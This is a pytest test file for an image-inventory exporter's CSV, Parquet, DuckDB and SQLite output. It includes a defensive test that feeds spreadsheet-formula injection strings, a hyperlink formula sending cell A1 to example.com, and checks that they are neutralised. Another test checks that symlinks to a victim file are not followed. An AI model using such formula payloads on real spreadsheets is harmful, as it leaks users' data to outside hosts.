"""Tables for other programs, read back by those programs."""

from __future__ import annotations

import csv
import json
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import duckdb
import pyarrow.parquet as pq  # type: ignore[import-untyped]
import pytest

from auditor.analysis.export import TABLES, ExportFormat, export
from auditor.errors import OutputError, UsageError
from tests.records import EVERYTHING, RECORDS, failure, image
from tests.reports import write_report

COUNTS = {  # of RECORDS
    "images": 2,
    "platforms": 5,
    "layers": 5,
    "attachments": 1,
    "bases": 1,
    "signatures": 1,
    "warnings": 1,
    "failures": 2,
    "sources": 0,
    "input_labels": 0,
}


@pytest.fixture
def report(tmp_path: Path) -> str:
    return write_report(tmp_path / "report.jsonl.gz", RECORDS)


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as lines:
        return list(csv.DictReader(lines, strict=True))


def test_another_library_reads_parquet(report: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export([report], target=ExportFormat.PARQUET, output=out, tables=TABLES)
    assert {path.stem: pq.read_table(path).num_rows for path in out.iterdir()} == COUNTS
    first, everything = pq.read_table(out / "images.parquet").to_pylist()
    assert "platforms" not in first
    assert everything["architectures"] == ["linux/amd64", "linux/arm64"]
    assert dict(everything["annotations"]) == EVERYTHING.annotations
    assert everything["access"]["actions"] == ["pull"]
    layers = pq.read_table(out / "layers.parquet").to_pylist()
    assert [(row["position"], row["size"]) for row in layers[:2]] == [
        (0, 100),
        (1, 200),
    ]


def test_duckdb_is_one_file(report: str, tmp_path: Path) -> None:
    out = tmp_path / "inventory.duckdb"
    export([report], target=ExportFormat.DUCKDB, output=out, tables=TABLES)
    assert sorted(tmp_path.iterdir()) == sorted([out, Path(report)])
    with duckdb.connect(out, read_only=True) as database:
        for name, count in COUNTS.items():
            assert len(database.table(name).fetchall()) == count
        found = database.execute("SELECT architectures[2] FROM images").fetchall()
        assert found == [(None,), ("linux/arm64",)]


def test_sqlite_has_texts_and_numbers(report: str, tmp_path: Path) -> None:
    out = tmp_path / "inventory.sqlite"
    export([report], target=ExportFormat.SQLITE, output=out, tables=TABLES)
    with closing(sqlite3.connect(out)) as database:
        assert database.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        for name, count in COUNTS.items():
            found = database.execute(f"SELECT count(*) FROM {name}").fetchall()  # noqa: S608
            assert found == [(count,)]
        row = database.execute(
            "SELECT architectures, json_extract(access, '$.actions[0]'), size,"
            " typeof(schema_version) FROM images"
        ).fetchone()
        assert row == ("linux/amd64", "pull", 300, "integer")
        created = database.execute("SELECT DISTINCT typeof(created) FROM platforms")
        assert set(created.fetchall()) <= {("text",), ("null",)}
        assert database.execute("SELECT annotations FROM images").fetchall()[1] == (
            json.dumps(EVERYTHING.annotations, ensure_ascii=False).replace(" ", "")
            .replace("\\u001b", "\\u001B"),
        )  # fmt: skip


def test_the_csv_module_reads_csv(report: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export([report], target=ExportFormat.CSV, output=out, tables=TABLES)
    assert {path.stem: len(csv_rows(path)) for path in out.iterdir()} == COUNTS
    first, everything = csv_rows(out / "images.csv")
    assert (first["tag"], first["size"], first["artifact_type"]) == ("1", "300", "")
    assert everything["architectures"] == "linux/amd64 linux/arm64"
    assert json.loads(everything["warnings"])[0]["code"] == "child_missing"
    assert json.loads(everything["annotations"]) == EVERYTHING.annotations


def test_csv_has_no_formulas(tmp_path: Path) -> None:
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d", "\uff0b")
    texts = [f'{start}hyperlink("http://example.com/?"&a1)' for start in starts]
    images = [
        image(reference=one, tag=one, architectures=(one,), annotations={one: one})
        for one in texts
    ]
    failures = [failure(reference=one, detail=one) for one in texts]
    report = write_report(tmp_path / "r", [*images, *failures])
    out = tmp_path / "out"
    export([report], target=ExportFormat.CSV, output=out, tables=TABLES)
    rows = csv_rows(out / "images.csv")
    for row, text in zip(rows, texts, strict=True):
        assert row["tag"] == row["architectures"] == f"'{text}"
        assert json.loads(row["annotations"]) == {text: text}
    details = [row["detail"] for row in csv_rows(out / "failures.csv")]
    assert details == [f"'{text}" for text in texts]
    cells = [
        cell
        for path in out.iterdir()
        for row in csv_rows(path)
        for cell in row.values()
    ]
    assert not [
        cell for cell in cells if cell.lstrip("\t\r\n ")[:1] in tuple("=+-@\uff1d")
    ]


@pytest.mark.parametrize("target", ExportFormat)
def test_an_empty_report_is_not_exported(target: ExportFormat, tmp_path: Path) -> None:
    report = write_report(tmp_path / "r", [])
    out = tmp_path / "out"
    with pytest.raises(UsageError, match=r"^the report is empty: there is nothing to"):
        export([report], target=target, output=out, tables=TABLES, force=True)
    assert not out.exists()


def test_only_the_selected_tables_are_exported(report: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export([report], target=ExportFormat.CSV, output=out, tables=["layers"])
    assert [path.name for path in out.iterdir()] == ["layers.csv"]


@pytest.mark.parametrize("target", ExportFormat)
def test_an_existing_output_is_only_replaced_with_force(
    target: ExportFormat, report: str, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    other = (
        out / "other" if target in {ExportFormat.CSV, ExportFormat.PARQUET} else None
    )
    arguments: dict[str, Any] = {"target": target, "output": out, "tables": ["images"]}
    export([report], **arguments)
    if other:
        other.write_text("mine")
    other_report = write_report(tmp_path / "other", [image(tag="other")])
    with pytest.raises(UsageError, match="exists; --force replaces it"):
        export([other_report], **arguments)
    written = out / f"images.{target}" if other else out
    before = written.read_bytes()
    export([other_report], force=True, **arguments)
    assert written.read_bytes() != before
    assert other is None or other.read_text() == "mine"


@pytest.mark.parametrize("target", ExportFormat)
def test_a_damaged_report_creates_and_replaces_nothing(
    target: ExportFormat, tmp_path: Path
) -> None:
    report = tmp_path / "r.jsonl"
    write_report(report, [image()] * 3)
    report.write_bytes(report.read_bytes()[:-9])
    out = tmp_path / "out"
    folder = target in {ExportFormat.CSV, ExportFormat.PARQUET}
    old = out / f"layers.{target}" if folder else out
    old.parent.mkdir(exist_ok=True)
    old.write_text("old")
    with pytest.raises(UsageError, match="the line is truncated"):
        export([str(report)], target=target, output=out, tables=["layers"], force=True)
    assert old.read_text() == "old"
    assert list(old.parent.glob("*.partial*")) == []


@pytest.mark.parametrize("target", ExportFormat)
def test_an_unwritable_output_is_an_output_error(
    target: ExportFormat, report: str, tmp_path: Path
) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(OutputError, match=str(tmp_path)):
        export([report], target=target, output=tmp_path / "file" / "out", tables=TABLES)


@pytest.mark.parametrize("target", ExportFormat)
def test_a_link_of_another_user_is_not_followed(
    target: ExportFormat, report: str, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    out = tmp_path / "out"
    if target in {ExportFormat.CSV, ExportFormat.PARQUET}:
        out.mkdir()
        links = [out / f"images.{target}", out / f"images.{target}.partial"]
    else:
        links = [out, tmp_path / "out.partial"]
    for link in links:
        link.symlink_to(victim)
    export([report], target=target, output=out, tables=["images"], force=True)
    assert victim.read_text() == "precious"
    assert not links[0].is_symlink()
    assert links[0].stat().st_mode & 0o044 == 0o044  # others may read it


@pytest.mark.parametrize("target", [ExportFormat.DUCKDB, ExportFormat.SQLITE])
def test_a_folder_is_never_replaced_by_a_file(
    target: ExportFormat, report: str, tmp_path: Path
) -> None:
    (tmp_path / "out").mkdir()
    with pytest.raises(UsageError, match="is a folder; give a file in it"):
        export(
            [report], target=target, output=tmp_path / "out", tables=TABLES, force=True
        )
